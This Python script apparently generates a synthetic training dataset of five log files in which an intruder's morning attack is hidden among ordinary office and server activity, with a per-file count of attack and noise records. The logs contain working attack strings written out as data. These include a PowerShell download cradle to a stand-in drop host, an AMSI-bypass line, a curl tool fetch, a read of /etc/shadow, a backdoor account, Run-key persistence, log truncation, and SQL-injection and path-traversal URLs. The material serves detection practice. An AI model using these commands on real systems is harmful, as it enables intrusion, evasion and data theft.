#!/usr/bin/env python3
"""Writes the sample attack: five log files of one morning, as their devices would write them.

An intruder at 203.0.113.47 scans the edge and the portal, guesses an SSH password, makes an account, steps on
to a workstation, runs PowerShell from 198.51.100.23 and sends data back there. All of it lies inside the
ordinary business of the morning. README.md tells the story with times.

The result depends on the seed alone. `generate.py` writes the files beside itself; `generate.py --check`
compares them with what it would write; both print the counts that sample.yaml states. Addresses are private or of
the documentation ranges (RFC 5737, RFC 3849), names are invented.
"""

import base64
import datetime
import json
import pathlib
import random
import sys

HERE = pathlib.Path(__file__).resolve().parent
SEED = 20261120
LOCAL = datetime.timezone(datetime.timedelta(hours=7))
DAY = datetime.datetime(2026, 11, 20, tzinfo=LOCAL)
MINUTES = 240  # 08:00 to 12:00

INTRUDER = "203.0.113.47"
DROP = "198.51.100.23"  # where the tools come from and the data goes
PORTAL_PUBLIC = "192.0.2.10"
WEB = "10.20.1.11"
APP = "10.20.1.12"
VICTIM = "10.20.30.107"
VICTIM_HOST = "WS-KETOAN-07"
USER = "thuylinh.nguyen"
BACKDOOR = "svc_backup1"

FIREWALL = "fw-edge-01.log"
ACCESS = "portal-web-01-access.log"
AUTH = "portal-app-01-auth.log"
SYSMON = "ws-ketoan-07-sysmon.ndjson"
SECURITY = "ws-security.ndjson"
FILES = [FIREWALL, ACCESS, AUTH, SYSMON, SECURITY]

RECORD_ID = 900000001  # stands for the number in the log, given when the records are in order
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
CRADLE = (
    "$ProgressPreference='SilentlyContinue';"
    "IEX (New-Object Net.WebClient).DownloadString('http://%s:8080/t/s.ps1')" % DROP
)


class Story:
    """Collects records; each knows its file, its time and whether it belongs to the attack."""

    def __init__(self):
        self.random = random.Random(SEED)
        self.records = []
        self.attack = False
        self.packet_id = 20000

    def at(self, hour, minute, second=0.0):
        return DAY + datetime.timedelta(hours=hour, minutes=minute, seconds=second)

    def any_time(self):
        seconds = self.random.uniform(0, MINUTES * 60 - 1)
        return self.at(8, 0, seconds)

    def add(self, file, when, text):
        self.records.append((file, when, len(self.records), text, self.attack))

    # ---- the devices' ways of writing

    def firewall(self, when, verdict, source, target, port, *, inward, source_port=None, length=60,
                 protocol="TCP", flags="SYN"):
        if verdict == "DROP" and inward:
            path, mac = "IN=eth0 OUT=", "52:54:00:20:00:01:52:54:00:10:00:01:08:00"
        elif inward:
            path, mac = "IN=eth0 OUT=eth1", "52:54:00:20:00:01:52:54:00:10:00:01:08:00"
        else:
            path, mac = "IN=eth1 OUT=eth0", "52:54:00:20:00:02:52:54:00:30:00:07:08:00"
        self.packet_id = (self.packet_id + 7) % 65536
        source_port = source_port or self.random.randint(32768, 60999)
        uptime = 81000 + (when - DAY).total_seconds()
        text = (f"<{4 if verdict == 'DROP' else 6}>1 {stamp(when)} fw-edge-01 kernel - - - [{uptime:.6f}] "
                f"FW-{verdict}: {path} MAC={mac} SRC={source} DST={target} LEN={length} TOS=0x00 PREC=0x00 "
                f"TTL={51 if inward else 127} ID={self.packet_id} DF PROTO={protocol} SPT={source_port} DPT={port}")
        if protocol == "TCP":
            text += f" WINDOW=64240 RES=0x00 {flags} URGP=0"
        else:
            text += f" LEN={length - 20}"
        self.add(FIREWALL, when, text)

    def access(self, when, address, target, status, size, agent, *, method="GET", referrer="-", user="-"):
        time = when.strftime("%d/%b/%Y:%H:%M:%S %z")
        self.add(ACCESS, when,
                 f'{address} - {user} [{time}] "{method} {target} HTTP/1.1" {status} {size} "{referrer}" "{agent}"')

    def auth(self, when, program, pid, message, priority=38):
        self.add(AUTH, when, f"<{priority}>1 {stamp(when)} portal-app-01 {program} {pid} - - {message}")

    def sysmon(self, when, code, **data):
        utc = when.astimezone(datetime.timezone.utc)
        event = {
            "@timestamp": utc.strftime("%Y-%m-%dT%H:%M:%S.") + f"{utc.microsecond // 1000:03d}Z",
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Provider_Name": "Microsoft-Windows-Sysmon",
            "EventID": code,
            "Computer": VICTIM_HOST,
            "UtcTime": utc.strftime("%Y-%m-%d %H:%M:%S.") + f"{utc.microsecond // 1000:03d}",
        }
        event.update(data)
        self.add(SYSMON, when, compact(event))

    def windows(self, when, channel, provider, code, computer, **data):
        utc = when.astimezone(datetime.timezone.utc)
        system = {
            "Provider": {"#attributes": {"Name": provider}},
            "EventID": code,
            "Level": 0,
            "TimeCreated": {"#attributes": {"SystemTime": utc.strftime("%Y-%m-%dT%H:%M:%S.%fZ")}},
            "EventRecordID": RECORD_ID,
            "Channel": channel,
            "Computer": computer,
        }
        self.add(SECURITY, when, compact({"Event": {"System": system, "EventData": data}}))

    def security(self, when, code, computer, **data):
        self.windows(when, "Security", "Microsoft-Windows-Security-Auditing", code, computer, **data)

    def script_block(self, when, computer, text, path=""):
        block = "%08x-0000-4000-8000-%012x" % (self.random.getrandbits(32), self.random.getrandbits(48))
        self.windows(when, "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104, computer,
                     MessageNumber=1, MessageTotal=1, ScriptBlockText=text, ScriptBlockId=block, Path=path)


def stamp(when):
    return when.strftime("%Y-%m-%dT%H:%M:%S.%f") + "+07:00"


def compact(value):
    return json.dumps(value, separators=(",", ":"), ensure_ascii=False)


def process_guid(story):
    return "{%08x-%04x-691e-0000-%012x}" % (0x5770385F, story.random.getrandbits(16), story.random.getrandbits(44))


# ---- the ordinary morning

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 Version/18.1 Mobile Safari/604.1",
]
ROBOT = "Mozilla/5.0 (compatible; SearchRobot/2.1; +https://robot.search.example/about)"
PAGES = ["/", "/tin-tuc", "/thu-tuc", "/thu-tuc/dang-ky-kinh-doanh", "/thu-tuc/cap-lai-the", "/nop-ho-so", "/tra-cuu",
         "/lien-he", "/thanh-toan-phi", "/huong-dan", "/api/v1/ho-so/trang-thai", "/api/v1/danh-muc"]
ASSETS = ["/static/app.css", "/static/app.js", "/static/logo.svg", "/favicon.ico", "/static/font.woff2"]
OLD_PAGES = ["/thong-bao/2019", "/van-ban/cu", "/rss.xml", "/ban-do", "/tuyen-dung/2021", "/hinh-anh/2018"]


def visitors(story):
    rng = story.random
    people = [f"198.51.100.{n}" for n in range(100, 180)] + [f"203.0.113.{n}" for n in range(110, 200)]
    people += [f"2001:db8:{n:x}::{n * 17:x}" for n in range(1, 30)] + [f"10.20.30.{n}" for n in range(21, 40)]
    for _ in range(270):
        address, agent, when = rng.choice(people), rng.choice(BROWSERS), story.any_time()
        for step in range(rng.randint(2, 7)):
            page = rng.choice(PAGES)
            method, status = "GET", 200
            if page == "/nop-ho-so" and rng.random() < 0.4:
                method, status = "POST", 302
            elif rng.random() < 0.04:
                status = 304
            elif rng.random() < 0.01:
                page, status = rng.choice(ASSETS) + ".map", 404
            story.access(when, address, page, status, rng.randint(900, 42000) if status == 200 else 162, agent, method=method,
                         referrer="-" if step == 0 else "https://portal.tinh.example/")
            when += datetime.timedelta(seconds=rng.uniform(1, 25))
            if rng.random() < 0.4:
                story.access(when, address, rng.choice(ASSETS), 200, rng.randint(700, 90000), agent,
                             referrer="https://portal.tinh.example" + page)


def robots(story):
    rng = story.random
    for address in ["198.51.100.200", "203.0.113.220", "2001:db8:b0::7"]:
        for minute in range(2, MINUTES, 4):  # a page every four minutes: never thirty refusals in five
            when = story.at(8, minute, rng.uniform(0, 59))
            if rng.random() < 0.3:
                story.access(when, address, rng.choice(OLD_PAGES), 404, 162, ROBOT)
            else:
                story.access(when, address, rng.choice(["/robots.txt", "/sitemap.xml"] + PAGES), 200, 4210, ROBOT)


def edge(story):
    rng = story.random
    for _ in range(330):  # citizens who reach the portal
        source = rng.choice(["198.51.100.", "203.0.113."]) + str(rng.randint(100, 199))
        story.firewall(story.any_time(), "ACCEPT", source, WEB, rng.choice([443, 443, 443, 80]), inward=True)
    for _ in range(560):  # staff who browse, resolvers, time, mail
        source = f"10.20.30.{rng.randint(21, 110)}"
        port, protocol = rng.choice([(443, "TCP")] * 6 + [(80, "TCP"), (53, "UDP"), (123, "UDP"), (587, "TCP")])
        target = rng.choice(["192.0.2.", "198.51.100."]) + str(rng.randint(201, 250))
        story.firewall(story.any_time(), "ACCEPT", source, target, port, inward=False, protocol=protocol,
                       length=52 if protocol == "TCP" else 76)
    for _ in range(260):  # the knocking that every address on the internet hears
        source = rng.choice(["198.51.100.", "203.0.113."]) + str(rng.randint(201, 250))
        story.firewall(story.any_time(), "DROP", source, PORTAL_PUBLIC,
                       rng.choice([23, 2323, 445, 3389, 8080, 5060, 6379, 1433, 22]), inward=True)
    for minute in (30, 90, 150, 210):  # an hourly copy to the province's data centre, on a port of its own
        for n in range(28):
            story.firewall(story.at(8, minute, 2 + n * 0.8), "ACCEPT", APP, "192.0.2.200", 8730, inward=False,
                           source_port=45000 + minute, length=1500, flags="ACK")


CRON_JOBS = [("root", "   cd / && run-parts --report /etc/cron.hourly"),
             ("root", "command -v debian-sa1 > /dev/null && debian-sa1 1 1"),
             ("www-data", "/usr/bin/php /srv/portal/bin/queue.php run"),
             ("backup", "/usr/local/bin/backup-portal --incremental")]
ADMIN_WORK = ["/usr/bin/systemctl reload nginx", "/usr/bin/apt-get update", "/usr/bin/journalctl -u portal-app -n 200",
              "/usr/bin/tail -n 100 /var/log/nginx/error.log", "/usr/bin/systemctl status portal-app", "/usr/bin/df -h"]


def server(story):
    rng = story.random
    pid = 9000
    for minute in range(0, MINUTES, 2):
        user, command = CRON_JOBS[0] if minute % 60 == 18 else rng.choice(CRON_JOBS[1:])
        when, pid = story.at(8, minute, 1.0 + rng.random() / 3), pid + rng.randint(3, 40)
        story.auth(when, "CRON", pid, f"pam_unix(cron:session): session opened for user {user}(uid=0) by (uid=0)", 86)
        story.auth(when + datetime.timedelta(milliseconds=4), "CRON", pid + 1, f"({user}) CMD ({command})", 78)
        story.auth(when + datetime.timedelta(seconds=1), "CRON", pid, f"pam_unix(cron:session): session closed for user {user}", 86)
    for minute in range(5, MINUTES, 15):  # deployment from the jump host, with a key
        session(story, story.at(8, minute, rng.uniform(0, 50)), pid := pid + 31, "deploy", "10.20.0.5", "publickey", 40)
    for user, minutes in [("hai.tran", (12, 75, 140, 205)), ("minh.le", (44, 118, 188))]:
        for minute in minutes:
            when = story.at(8, minute, rng.uniform(0, 50))
            session(story, when, pid := pid + 53, user, "10.20.0.5", "publickey", 600)
            for n, command in enumerate(rng.sample(ADMIN_WORK, 3)):
                sudo(story, when + datetime.timedelta(seconds=40 + 60 * n), pid + 5 + n, user, f"/home/{user}", command)
    for minute, fails in [(21, 2), (96, 1), (163, 3)]:  # a forgetful colleague
        when = story.at(8, minute, 8.0)
        for n in range(fails):
            story.auth(when + datetime.timedelta(seconds=7 * n), "sshd", pid := pid + 3,
                       f"Failed password for quang.pham from 10.20.30.31 port {50100 + n} ssh2")
        session(story, when + datetime.timedelta(seconds=30), pid := pid + 3, "quang.pham", "10.20.30.31", "password", 300)
    for n, minute in enumerate(range(9, MINUTES, 27)):  # stray guesses from the internet, far apart
        source, when = f"198.51.100.{231 + n}", story.at(8, minute, 33.3)
        story.auth(when, "sshd", pid := pid + 3, f"Invalid user admin from {source} port {40000 + n}")
        story.auth(when + datetime.timedelta(seconds=2), "sshd", pid,
                   f"Failed password for invalid user admin from {source} port {40000 + n} ssh2")
        story.auth(when + datetime.timedelta(seconds=3), "sshd", pid,
                   f"Connection closed by invalid user admin {source} port {40000 + n} [preauth]")


def session(story, when, pid, user, source, method, seconds):
    port = story.random.randint(49152, 65000)
    tail = " ssh2: ED25519 SHA256:3mBq0n9cGm7qkS0c0S2mW1rXo3C5vQ8b2sP5oKX0aYk" if method == "publickey" else " ssh2"
    story.auth(when, "sshd", pid, f"Accepted {method} for {user} from {source} port {port}{tail}")
    story.auth(when + datetime.timedelta(milliseconds=20), "sshd", pid,
               f"pam_unix(sshd:session): session opened for user {user}(uid=1003) by (uid=0)", 86)
    story.auth(when + datetime.timedelta(milliseconds=40), "systemd-logind", 611, f"New session {pid} of user {user}.")
    story.auth(when + datetime.timedelta(seconds=seconds), "sshd", pid, f"pam_unix(sshd:session): session closed for user {user}", 86)


def sudo(story, when, pid, user, folder, command):
    story.auth(when, "sudo", pid, f"{user} : TTY=pts/1 ; PWD={folder} ; USER=root ; COMMAND={command}", 85)
    story.auth(when + datetime.timedelta(milliseconds=6), "sudo", pid,
               f"pam_unix(sudo:session): session opened for user root(uid=0) by {user}(uid=1003)", 86)


OFFICE_PROGRAMS = [
    (r"C:\Program Files\Google\Chrome\Application\chrome.exe", "chrome.exe --type=renderer --lang=vi"),
    (r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE", r'"EXCEL.EXE" "C:\KeToan\2026\bang-luong-11.xlsx"'),
    (r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", r'"WINWORD.EXE" /n "C:\KeToan\cong-van.docx"'),
    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\System32\svchost.exe -k netsvcs -p -s wuauserv"),
    (r"C:\Windows\System32\taskhostw.exe", "taskhostw.exe"),
    (r"C:\Windows\System32\RuntimeBroker.exe", r"C:\Windows\System32\RuntimeBroker.exe -Embedding"),
    (r"C:\Windows\System32\SearchProtocolHost.exe", "SearchProtocolHost.exe Global_UsGthrFltPipeMssGthrPipe"),
    (r"C:\Windows\System32\conhost.exe", r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"),
]
INVENTORY = POWERSHELL, r"powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\Scripts\inventory.ps1"
DOMAINS = ["update.windows.example", "mail.tinh.example", "portal.tinh.example", "thue.example", "ngan-hang.example",
           "bao-chi.example", "cdn.example.net", "time.tinh.example"]


def workstation(story):
    rng = story.random
    user = "STC\\" + USER
    for _ in range(210):
        image, command = rng.choice(OFFICE_PROGRAMS)
        system = image.startswith("C:\\Windows")
        story.sysmon(story.any_time(), 1, ProcessGuid=process_guid(story), ProcessId=rng.randint(1200, 21000), Image=image,
                     CommandLine=command, CurrentDirectory="C:\\Windows\\system32\\" if system else "C:\\Users\\%s\\" % USER,
                     User="NT AUTHORITY\\SYSTEM" if system else user, IntegrityLevel="System" if system else "Medium",
                     ParentImage=r"C:\Windows\System32\services.exe" if system else r"C:\Windows\explorer.exe")
    for minute in (3, 63, 123, 183):  # the inventory that the support desk runs each hour
        story.sysmon(story.at(8, minute, 4.2), 1, ProcessGuid=process_guid(story), ProcessId=rng.randint(1200, 21000),
                     Image=INVENTORY[0], CommandLine=INVENTORY[1], CurrentDirectory="C:\\Windows\\system32\\",
                     User="NT AUTHORITY\\SYSTEM", IntegrityLevel="System", ParentImage=r"C:\Windows\System32\svchost.exe")
        story.sysmon(story.at(8, minute, 6.9), 3, ProcessId=rng.randint(1200, 21000), Image=INVENTORY[0],
                     User="NT AUTHORITY\\SYSTEM", Protocol="tcp", Initiated="true", SourceIp=VICTIM, SourcePort=50000 + minute,
                     DestinationIp="10.20.0.8", DestinationHostname="inventory.tinh.example", DestinationPort=443)
    for _ in range(210):
        story.sysmon(story.any_time(), 3, ProcessId=rng.randint(1200, 21000), Image=OFFICE_PROGRAMS[0][0], User=user, Protocol="tcp",
                     Initiated="true", SourceIp=VICTIM, SourcePort=rng.randint(49152, 65000),
                     DestinationIp=rng.choice(["192.0.2.", "198.51.100."]) + str(rng.randint(201, 250)), DestinationPort=443)
    for _ in range(190):
        story.sysmon(story.any_time(), 22, ProcessId=rng.randint(1200, 21000), Image=OFFICE_PROGRAMS[0][0], User=user,
                     QueryName=rng.choice(DOMAINS), QueryStatus="0", QueryResults="::ffff:192.0.2.%d;" % rng.randint(201, 250))
    for n in range(110):
        story.sysmon(story.any_time(), 11, ProcessId=rng.randint(1200, 21000), Image=OFFICE_PROGRAMS[1][0], User=user,
                     TargetFilename=r"C:\Users\%s\AppData\Local\Temp\~DF%06X.tmp" % (USER, rng.getrandbits(24)))
    for n in range(60):
        story.sysmon(story.any_time(), 13, EventType="SetValue", ProcessId=rng.randint(1200, 21000), User=user,
                     Image=r"C:\Windows\explorer.exe", Details="DWORD (0x%08x)" % rng.getrandbits(16),
                     TargetObject=r"HKU\S-1-5-21-71-72-73-1107\SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer\Streams\%d" % n)


PEOPLE = [(VICTIM_HOST, USER, VICTIM), ("WS-KETOAN-08", "ngocmai.do", "10.20.30.108"), ("WS-VANTHU-02", "thanhha.vu", "10.20.30.62"),
          ("WS-LANHDAO-01", "quocbao.tran", "10.20.30.11")]


def logon(story, when, computer, user, kind, source, domain="STC"):
    story.security(when, 4624, computer, SubjectUserSid="S-1-5-18", SubjectUserName=computer + "$", TargetUserName=user,
                   TargetDomainName=domain, TargetLogonId="0x%x" % story.random.getrandbits(24), LogonType=kind,
                   LogonProcessName="User32 " if kind == 2 else "Advapi", AuthenticationPackageName="Negotiate",
                   WorkstationName="-", IpAddress=source, IpPort="0" if source == "-" else "50144")


def office(story):
    rng = story.random
    for computer, user, _ in PEOPLE:
        start = story.at(8, rng.randint(1, 9), rng.uniform(0, 59))
        if computer == "WS-VANTHU-02":
            story.security(start - datetime.timedelta(seconds=20), 4625, computer, TargetUserName=user, TargetDomainName="STC",
                           LogonType=2, Status="0xc000006d", SubStatus="0xc000006a", IpAddress="127.0.0.1")
        logon(story, start, computer, user, 2, "127.0.0.1")
        for _ in range(38):  # services
            logon(story, story.any_time(), computer, "SYSTEM", 5, "-", "NT AUTHORITY")
        for _ in range(4):  # unlocking the screen
            logon(story, story.any_time(), computer, user, 7, "127.0.0.1")
        for _ in range(3):  # the support desk
            logon(story, story.any_time(), computer, "hotro.it", 3, "10.20.0.8")
        for _ in range(62):
            image, command = rng.choice(OFFICE_PROGRAMS)
            story.security(story.any_time(), 4688, computer, SubjectUserSid="S-1-5-18", SubjectUserName=user, SubjectDomainName="STC",
                           NewProcessId="0x%x" % rng.getrandbits(14), NewProcessName=image, CommandLine=command,
                           ProcessId="0x%x" % rng.getrandbits(12), ParentProcessName=r"C:\Windows\explorer.exe")
        for minute in (3, 63, 123, 183):
            story.script_block(story.at(8, minute, 5.0 + rng.random()), computer,
                               "$os = Get-CimInstance Win32_OperatingSystem; Get-HotFix | Sort-Object InstalledOn | "
                               "Select-Object -Last 5 | Export-Csv C:\\Scripts\\out\\$env:COMPUTERNAME.csv",
                               r"C:\Scripts\inventory.ps1")


# ---- the attack

def scan_the_edge(story):
    """09:02: 126 ports of the public address in 95 seconds."""
    rng = story.random
    ports = rng.sample(sorted(set(range(20, 1100)) - {22, 80, 443}), 123) + [22, 80, 443]
    rng.shuffle(ports)
    for n, port in enumerate(ports):
        when = story.at(9, 2, 10 + n * 0.75)
        if port in (22, 80, 443):
            story.firewall(when, "ACCEPT", INTRUDER, APP if port == 22 else WEB, port, inward=True, source_port=41000 + n)
        else:
            story.firewall(when, "DROP", INTRUDER, PORTAL_PUBLIC, port, inward=True, source_port=41000 + n)


def scan_the_portal(story):
    """09:06: 150 guessed pages, then a look for holes."""
    rng = story.random
    words = ["admin", "backup", "test", "old", "dev", "api", "config", "db", "login", "manager", "upload", "tmp", "data", "console", "portal"]
    ends = [".php", ".zip", ".bak", "/", ".jsp", ".aspx", ".old", ".tar.gz", "_1/", ".txt"]
    agent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"
    when = story.at(9, 6, 5)
    for word in words:
        for end in ends:
            story.access(when, INTRUDER, f"/{word}{end}", 403 if word == "config" else 404, 162, agent)
            when += datetime.timedelta(seconds=rng.uniform(0.6, 1.6))
        if rng.random() < 0.5:
            story.firewall(when, "ACCEPT", INTRUDER, WEB, 443, inward=True)
    for target, status in [("/.env", 404), ("/.git/config", 404), ("/tai-ve?tep=../../../../etc/passwd", 400),
                           ("/tai-ve?tep=..%2f..%2f..%2f..%2fetc%2fpasswd", 400)]:
        story.access(when, INTRUDER, target, status, 162, agent)
        when += datetime.timedelta(seconds=4)
    for target, status in [("/tra-cuu?ma=1%27%20AND%201=2--", 200), ("/tra-cuu?ma=1%27%20UNION%20SELECT%20null,version()--", 500),
                           ("/tra-cuu?ma=1%27%20UNION%20SELECT%20null,table_name%20FROM%20information_schema.tables--", 500)]:
        story.access(when, INTRUDER, target, status, 812, "sqlmap/1.8.4#stable (https://sqlmap.org)")
        when += datetime.timedelta(seconds=3)


def guess_the_password(story):
    """09:15: 52 guesses at the SSH of the application server; the last is right."""
    rng = story.random
    names = ["root", "admin", "oracle", "test", "ubuntu", "postgres", "deploy", "hai.tran", "backup", "www", USER]
    when, pid = story.at(9, 15, 2.1), 20111
    for n in range(51):
        name = USER if n > 32 else names[n % len(names)]
        port = 51000 + n
        known = name in ("root", "deploy", "hai.tran", "backup", USER)
        pid += 2
        if n % 4 == 0:
            story.firewall(when, "ACCEPT", INTRUDER, APP, 22, inward=True, source_port=port)
        if not known:
            story.auth(when, "sshd", pid, f"Invalid user {name} from {INTRUDER} port {port}")
        story.auth(when + datetime.timedelta(seconds=2), "sshd", pid,
                   f"Failed password for {'' if known else 'invalid user '}{name} from {INTRUDER} port {port} ssh2")
        story.auth(when + datetime.timedelta(seconds=2.4), "sshd", pid,
                   f"Connection closed by {'authenticating' if known else 'invalid'} user {name} {INTRUDER} port {port} [preauth]")
        when += datetime.timedelta(seconds=rng.uniform(6.0, 8.5))
    session(story, story.at(9, 21, 37.5), pid + 3, USER, INTRUDER, "password", 4800)


def take_the_server(story):
    """09:23: root by sudo, a tool from outside, the password hashes, an account to come back with."""
    home = f"/home/{USER}"
    sudo(story, story.at(9, 23, 2.1), 20512, USER, home, "/usr/bin/id")
    sudo(story, story.at(9, 24, 10.1), 20530, USER, home, "/usr/bin/cat /etc/shadow")
    sudo(story, story.at(9, 25, 41.1), 20540, USER, "/tmp", f"/usr/bin/curl -fsS -o /var/tmp/.cache http://{DROP}:8080/t/agent")
    story.firewall(story.at(9, 25, 41.3), "ACCEPT", APP, DROP, 8080, inward=False, source_port=45811)
    make = story.at(9, 27, 15.1)
    sudo(story, make, 20560, USER, "/tmp", f"/usr/sbin/useradd -m -s /bin/bash -G sudo {BACKDOOR}")
    for n, message in enumerate([f"new group: name={BACKDOOR}, GID=1007",
                                 f"new user: name={BACKDOOR}, UID=1007, GID=1007, home=/home/{BACKDOOR}, shell=/bin/bash, from=/dev/pts/1",
                                 f"add '{BACKDOOR}' to group 'sudo'", f"add '{BACKDOOR}' to shadow group 'sudo'"]):
        story.auth(make + datetime.timedelta(milliseconds=40 + 5 * n), "useradd", 20562, message, 86)
    story.auth(story.at(9, 27, 40.4), "chpasswd", 20570, f"pam_unix(chpasswd:chauthtok): password changed for {BACKDOOR}", 86)


def step_to_the_workstation(story):
    """09:34: the same user and password open remote management on an accountant's workstation."""
    user, host = "STC\\" + USER, VICTIM_HOST
    encoded = base64.b64encode(CRADLE.encode("utf-16-le")).decode()
    command = f"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc {encoded}"
    story.firewall(story.at(9, 34, 1.2), "ACCEPT", APP, VICTIM, 5985, inward=False, source_port=45902)
    logon(story, story.at(9, 34, 1.6), host, USER, 3, APP)
    host_process = r"C:\Windows\System32\wsmprovhost.exe"
    story.sysmon(story.at(9, 34, 2.3), 1, ProcessGuid=process_guid(story), ProcessId=7712, Image=host_process,
                 CommandLine=host_process + " -Embedding", CurrentDirectory="C:\\Windows\\system32\\", User=user, IntegrityLevel="High",
                 ParentImage=r"C:\Windows\System32\svchost.exe")
    story.sysmon(story.at(9, 36, 11.0), 1, ProcessGuid=process_guid(story), ProcessId=8120, Image=r"C:\Windows\System32\whoami.exe",
                 CommandLine="whoami /all", CurrentDirectory=f"C:\\Users\\{USER}\\Documents\\", User=user, IntegrityLevel="High",
                 ParentImage=host_process)
    story.sysmon(story.at(9, 40, 0.2), 1, ProcessGuid=process_guid(story), ProcessId=8244, Image=POWERSHELL, CommandLine=command,
                 CurrentDirectory=f"C:\\Users\\{USER}\\Documents\\", User=user, IntegrityLevel="High", ParentImage=host_process)
    story.security(story.at(9, 40, 0.2), 4688, host, SubjectUserSid="S-1-5-21-71-72-73-1107", SubjectUserName=USER, SubjectDomainName="STC",
                   NewProcessId="0x2034", NewProcessName=POWERSHELL, CommandLine=command, ProcessId="0x1e20", ParentProcessName=host_process)
    story.script_block(story.at(9, 40, 0.9), host, CRADLE)
    story.sysmon(story.at(9, 40, 1.4), 3, ProcessId=8244, Image=POWERSHELL, User=user, Protocol="tcp", Initiated="true", SourceIp=VICTIM,
                 SourcePort=50412, DestinationIp=DROP, DestinationPort=8080)
    story.firewall(story.at(9, 40, 1.5), "ACCEPT", VICTIM, DROP, 8080, inward=False, source_port=50412, length=52)
    story.script_block(story.at(9, 40, 2.6), host,
                       "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed',"
                       "'NonPublic,Static').SetValue($null,$true)")
    story.sysmon(story.at(9, 43, 20.0), 13, EventType="SetValue", ProcessId=8244, User=user, Image=POWERSHELL,
                 TargetObject=r"HKU\S-1-5-21-71-72-73-1107\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\OneSync",
                 Details=r"powershell.exe -W Hidden -File C:\Users\Public\sync.ps1")


def send_the_data(story):
    """10:12: the accounts are packed and go out in eight minutes; 10:38: the traces on the server."""
    rng = story.random
    user = "STC\\" + USER
    story.sysmon(story.at(10, 12, 8.0), 1, ProcessGuid=process_guid(story), ProcessId=9020, Image=r"C:\Program Files\7-Zip\7z.exe",
                 CommandLine=r"7z.exe a -mx1 C:\Users\Public\bc.7z C:\KeToan\2026 -pT9xLq2 -mhe=on", CurrentDirectory="C:\\KeToan\\", User=user,
                 IntegrityLevel="High", ParentImage=POWERSHELL)
    story.sysmon(story.at(10, 12, 51.0), 11, ProcessId=9020, Image=r"C:\Program Files\7-Zip\7z.exe", User=user,
                 TargetFilename=r"C:\Users\Public\bc.7z")
    story.sysmon(story.at(10, 14, 2.0), 3, ProcessId=8244, Image=POWERSHELL, User=user, Protocol="tcp", Initiated="true", SourceIp=VICTIM,
                 SourcePort=50533, DestinationIp=DROP, DestinationPort=8443)
    story.firewall(story.at(10, 14, 2.0), "ACCEPT", VICTIM, DROP, 8443, inward=False, source_port=50533, length=52)
    when = story.at(10, 14, 2.4)
    for _ in range(420):
        story.firewall(when, "ACCEPT", VICTIM, DROP, 8443, inward=False, source_port=50533, length=1500, flags="ACK")
        when += datetime.timedelta(seconds=rng.uniform(0.6, 1.6))
    session(story, story.at(10, 38, 12.0), 23110, BACKDOOR, INTRUDER, "password", 300)
    story.firewall(story.at(10, 38, 11.0), "ACCEPT", INTRUDER, APP, 22, inward=True)
    sudo(story, story.at(10, 41, 3.0), 23140, BACKDOOR, "/root", "/usr/bin/truncate -s 0 /var/log/nginx/access.log /var/log/auth.log")


def tell():
    story = Story()
    for part in (visitors, robots, edge, server, workstation, office):
        part(story)
    story.attack = True
    for part in (scan_the_edge, scan_the_portal, guess_the_password, take_the_server, step_to_the_workstation, send_the_data):
        part(story)
    end = story.at(12, 0)  # what would end after the morning is not in its files
    return sorted((r for r in story.records if r[1] < end), key=lambda r: (FILES.index(r[0]), r[1], r[2]))


def texts(records):
    files = {}
    for file in FILES:
        lines = [r[3] for r in records if r[0] == file]
        numbered = (line.replace(str(RECORD_ID), str(41200 + n), 1) for n, line in enumerate(lines))
        files[file] = "".join(line + "\n" for line in numbered)
    return files


def counts(records):
    """{file: (attack records, noise records)}"""
    return {file: (sum(r[4] for r in records if r[0] == file), sum(not r[4] for r in records if r[0] == file)) for file in FILES}


def main():
    records = tell()
    stale = []
    for file, text in texts(records).items():
        path = HERE / file
        if "--check" in sys.argv[1:]:
            if not path.exists() or path.read_text(encoding="utf-8") != text:
                stale.append(file)
        else:
            path.write_text(text, encoding="utf-8")
    for file, (attack, noise) in counts(records).items():
        print(f"{file}: {attack} attack, {noise} noise")
    print(f"all: {sum(r[4] for r in records)} attack, {sum(not r[4] for r in records)} noise")
    if stale:
        print("differs from what generate.py writes: " + ", ".join(stale))
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
